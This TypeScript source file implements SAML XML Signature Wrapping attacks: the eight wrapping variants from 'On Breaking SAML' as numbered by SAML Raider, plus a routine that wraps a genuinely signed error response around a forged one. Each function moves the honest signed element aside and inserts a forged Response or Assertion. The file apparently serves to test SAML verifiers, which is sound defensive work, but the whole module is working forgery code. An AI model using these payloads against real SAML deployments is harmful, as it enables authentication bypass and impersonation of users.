import { DOMParser } from '@xmldom/xmldom'
import {
	child,
	copyUnsigned,
	createExtensions,
	createSignatureObject,
	forge,
	serialize,
	type TakenApart,
	takeApart,
} from './dom.ts'

/**
 * The eight signature wrapping attacks (Somorovsky and others, "On Breaking SAML", 2012, as numbered by SAML Raider).
 * Each keeps the honest element, still validly signed, somewhere in the document, and puts a forged one where a careless
 * reader looks. The first two wrap the Response's signature, the others the Assertion's.
 */
export function wrapSignature(variant: number, signedXml: string): string {
	const parts = takeApart(signedXml)
	const attack = variants[variant - 1]
	if (!attack) throw new Error(`there is no wrapping variant ${variant}`)
	attack(parts)
	return serialize(parts.document)
}

/** Whether a variant wraps the signature of the Response; the others wrap the Assertion's. */
export const wrapsResponse = (variant: number) => variant <= 2

const variants: ((parts: TakenApart) => void)[] = [
	/** 1: the honest response inside the forged one's signature. */
	(parts) => {
		const honest = forgeResponse(parts)
		signatureOf(parts.responseSignature).appendChild(honest)
	},
	/** 2: the honest response as a sibling before the signature (detached). */
	(parts) => {
		const honest = forgeResponse(parts)
		parts.response.insertBefore(honest, signatureOf(parts.responseSignature))
	},
	/** 3: a forged assertion before the honest one. */
	({ response, assertion }) => {
		response.insertBefore(forge(copyUnsigned(assertion)), assertion)
	},
	/** 4: the honest assertion inside a forged one. */
	({ response, assertion }) => {
		const forged = forge(copyUnsigned(assertion))
		response.replaceChild(forged, assertion)
		forged.appendChild(assertion)
	},
	/** 5: the forged assertion carries the signature, a copy of the honest one stands at the end. */
	({ response, assertion }) => {
		const honest = copyUnsigned(assertion)
		forge(assertion)
		response.appendChild(honest)
	},
	/** 6: the honest assertion inside the signature of the forged one. */
	({ assertion, assertionSignature }) => {
		const honest = copyUnsigned(assertion)
		forge(assertion)
		signatureOf(assertionSignature).appendChild(honest)
	},
	/** 7: a forged assertion in Extensions, where any content is valid by the schema. */
	({ document, response, assertion }) => {
		const extensions = createExtensions(document)
		extensions.appendChild(forge(copyUnsigned(assertion)))
		response.insertBefore(extensions, child(response, 'Status') ?? assertion)
	},
	/** 8: the honest assertion in an Object of the forged one's signature. */
	({ document, assertion, assertionSignature }) => {
		const honest = copyUnsigned(assertion)
		forge(assertion)
		const object = createSignatureObject(document)
		object.appendChild(honest)
		signatureOf(assertionSignature).appendChild(object)
	},
]

/** Forges the response in place and answers the honest copy. A forged assertion keeps its signature, if it has one. */
function forgeResponse({ response, assertion }: TakenApart): Element {
	const honest = copyUnsigned(response)
	response.setAttribute('ID', `${response.getAttribute('ID')}evil`)
	forge(assertion)
	return honest
}

function signatureOf(signature: Element | undefined): Element {
	if (!signature) throw new Error('the element to wrap is not signed')
	return signature
}

/** Puts a genuinely signed error response into a forged one, whose Response then carries a valid signature. */
export function wrapErrorResponse(signedErrorXml: string, unsignedXml: string): string {
	const { document, response, assertion } = takeApart(unsignedXml)
	const error = new DOMParser().parseFromString(signedErrorXml, 'text/xml').documentElement
	const signature = document.importNode(signatureOf(child(error, 'Signature')), true)
	const object = createSignatureObject(document)
	object.appendChild(document.importNode(copyUnsigned(error), true))
	signature.appendChild(object)
	response.setAttribute('ID', `${response.getAttribute('ID')}evil`)
	response.insertBefore(signature, child(response, 'Status') ?? assertion)
	forge(assertion)
	return serialize(document)
}
